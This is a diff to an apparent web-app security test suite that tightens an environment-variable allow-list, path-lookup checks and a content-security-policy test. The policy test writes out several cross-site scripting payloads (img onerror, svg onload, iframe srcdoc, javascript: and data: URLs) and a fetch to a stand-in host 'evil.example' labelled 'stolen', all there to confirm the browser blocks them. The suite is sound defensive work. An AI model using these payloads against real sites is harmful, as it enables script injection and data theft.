@@ -37,7 +37,9 @@ describe("15. what a program gets to see", () => {
       (name) => !needed.includes(name) && !/^(RDS_|IP$|STATS_|SANDBOX_|SECRET_PW$)/.test(name),
     );
     expect(own).toEqual(expect.arrayContaining(["BACKCOURT_RUN_ID"]));
-    expect(own.filter((name) => !/^(BACKCOURT_|PG|PYTHON|WEBHOOK)/.test(name))).toEqual([]);
+    expect(
+      own.filter((name) => !/^(BACKCOURT_RUN_ID|NODE_ENV|PGAPPNAME|PYTHONUNBUFFERED)$/.test(name)),
+    ).toEqual([]);
     expect(names).not.toContain("DATABASE_URL");
     expect(names.filter((name) => /REDIS|AUTH_SECRET|AWS|WAREHOUSE/.test(name))).toEqual([]);
     expect(log).toContain(`argv ["--run_date", "${DATE}"]`);
@@ -65,7 +67,8 @@ describe("17. a download's path", () => {
   ])("%s: 404, and no file", async (id) => {
     for (const path of [`/api/runs/${id}/log`, `/api/runs/${id}/nodes/${id}/sql`, `/_next/static/${id}`]) {
       const answer = await send({ path, as: "viewer" });
-      expect([path, [400, 404].includes(answer.status)]).toEqual([path, true]);
+      // A path that is shortened before it is looked up leads elsewhere, with nothing in it.
+      expect([path, [308, 400, 404].includes(answer.status)]).toEqual([path, true]);
       expect(answer.text).not.toContain("root:");
     }
   });
@@ -115,22 +118,24 @@ describe("19. what a log would do to a browser", () => {
   });
 
   it("nor could a script that got into the page: it has no nonce", async () => {
-    const violations = await page.evaluate(async () => {
+    const found = await page.evaluate(async () => {
       const seen: string[] = [];
       document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
-      document.body.insertAdjacentHTML("beforeend", '<img src="x" onerror="window.owned = 1">');
-      document.body.append(
-        Object.assign(document.createElement("script"), { textContent: "window.owned = 1" }),
+      const owned = "(window.parent ?? window).owned = 1";
+      document.body.insertAdjacentHTML(
+        "beforeend",
+        `<img src="x" onerror="${owned}"><svg onload="${owned}"></svg><script>${owned}</script>
+         <iframe srcdoc="<script>${owned}</script>"></iframe><iframe src="javascript:${owned}"></iframe>
+         <a id="lure" href="javascript:${owned}">x</a>
+         <object data="data:text/html,<script>${owned}</script>"></object>`,
       );
+      document.getElementById("lure")?.click();
       const elsewhere = await fetch("https://evil.example/?stolen").catch(() => "blocked");
-      await new Promise((resolve) => setTimeout(resolve, 200));
+      await new Promise((resolve) => setTimeout(resolve, 500));
       return { seen, owned: (window as { owned?: number }).owned ?? null, elsewhere };
     });
-    expect(violations.owned).toBeNull();
-    expect(violations.elsewhere).toBe("blocked");
-    expect(violations.seen).toEqual(
-      expect.arrayContaining(["script-src-attr", "script-src-elem", "connect-src"]),
-    );
+    expect(found).toMatchObject({ owned: null, elsewhere: "blocked" });
+    expect(found.seen).toEqual(expect.arrayContaining(["script-src-attr", "script-src-elem", "connect-src"]));
   });
 
   it("the policy that sees to it is strict, and every page's nonce is its own", async () => {
@@ -212,7 +217,7 @@ describe("22. a dependency's own words", () => {
       expect([answer.status, answer.code]).toEqual([503, "warehouse-unavailable"]);
       expect(answer.text).not.toMatch(/ECONNREFUSED|127\.0\.0\.1|pw-of-the-warehouse|at \w+ \(|node_modules/);
       const { requestId } = JSON.parse(answer.text).error;
-      expect(web.output()).toContain(requestId);
+      await vi.waitFor(() => expect(web.output()).toContain(requestId));
       expect(web.output()).not.toContain("pw-of-the-warehouse");
     } finally {
       await web.stop();
